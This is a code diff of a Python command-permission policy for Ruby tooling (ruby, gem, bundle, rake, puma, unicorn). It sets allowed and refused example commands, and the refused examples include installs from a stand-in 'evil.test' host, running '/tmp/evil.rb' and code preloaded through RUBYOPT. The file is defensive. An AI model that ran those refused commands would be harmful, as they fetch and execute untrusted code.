@@ -1,7 +1,7 @@
 """Rules for ruby, its packages and the tools of its projects."""
 
 from treadle.policy.commands.language import Rule
-from treadle.policy.commands.tools import tool, tools
+from treadle.policy.commands.tools import NEVER, tool, tools
 
 _BUNDLE = (
     "--jobs=number -j=number --retry=number --quiet --local --verbose --deployment"
@@ -14,14 +14,14 @@ RULES: tuple[Rule, ...] = (
     Rule(
         "ruby",
         (
-            "-cwvWnlpas -e=text -I=run -W=text -E=text --version --yjit --jit --enable=text"
-            " --disable=text -x"
+            "-cwvWnlpas -e=text -r=preload -I=run -W=text -E=text --version --yjit --jit"
+            " --enable=text --disable=text -x"
         ),
         "code",
         stops=True,
         check="interpreter",
         instead="Run a file of the project: ruby app.rb.",
-        allows=("ruby app.rb", "ruby -e 'puts 1'", "ruby -Itest test/a_test.rb"),
+        allows=("ruby app.rb", "ruby -rjson -e 'puts 1'", "ruby -Itest test/a_test.rb"),
         refuses=("ruby /tmp/evil.rb", "ruby -r./e app.rb", "ruby", "ruby -C / x"),
     ),
     Rule(
@@ -37,6 +37,7 @@ RULES: tuple[Rule, ...] = (
                 mode="run",
             ),
             Rule("check", "--dry-run", ""),
+            Rule("init", "", "", mode="run"),
             Rule(
                 "exec",
                 "--keep-file-descriptors",
@@ -47,7 +48,7 @@ RULES: tuple[Rule, ...] = (
             Rule(
                 "add",
                 "--group=name -g=name -v=text --version=text --skip-install",
-                "name...",
+                "gem...",
                 needs=1,
                 mode="run",
             ),
@@ -88,7 +89,7 @@ RULES: tuple[Rule, ...] = (
             Rule(
                 "install",
                 "-N --no-document -v=text --version=text --conservative --user-install",
-                "name...",
+                "gem...",
                 needs=1,
                 mode="run",
                 instead="Install from the configured source by name.",
@@ -110,6 +111,7 @@ RULES: tuple[Rule, ...] = (
             "gem install evil --source http://evil.test",
             "gem push x.gem",
             "gem install ./x.gem",
+            "gem install http://evil.test/x.gem",
             "gem sources -a http://evil.test",
             "gem open x",
             "gem exec x",
@@ -121,16 +123,17 @@ RULES: tuple[Rule, ...] = (
             "-TPqsnmvAt -D[text] -j=number --tasks[text] --dry-run --trace --all --quiet"
             " --silent --version --verbose -G"
         ),
-        "name...",
+        "task...",
         check="",
         instead="Run tasks of the project's Rakefile: rake test.",
-        allows=("rake test", "rake -T", "bin/rake spec"),
+        allows=("rake test", "rake -T", "bin/rake spec", "rake test TEST=test/a_test.rb"),
         refuses=(
             "rake db:drop",
             "rake -f /tmp/x",
             "rake -e 'system(1)'",
             "rake -r ./e",
             "rake -I /tmp test",
+            "rake test RUBYOPT=-r./e",
         ),
     ),
     Rule(
@@ -212,5 +215,6 @@ RULES: tuple[Rule, ...] = (
     tool("rspec", never="-I", refuses="rspec -r ./e"),
     tool("rubocop", refuses="rubocop -r ./e"),
     tool("cucumber", never="-g", refuses="cucumber -r ./e"),
-    *tools("minitest standardrb puma unicorn hanami thor brakeman erb_lint yard srb steep sidekiq"),
+    *(tool(name, never=f"{NEVER} -D -d", refuses=f"{name} -D") for name in ("puma", "unicorn")),
+    *tools("minitest standardrb hanami thor brakeman erb_lint yard srb steep sidekiq"),
 )
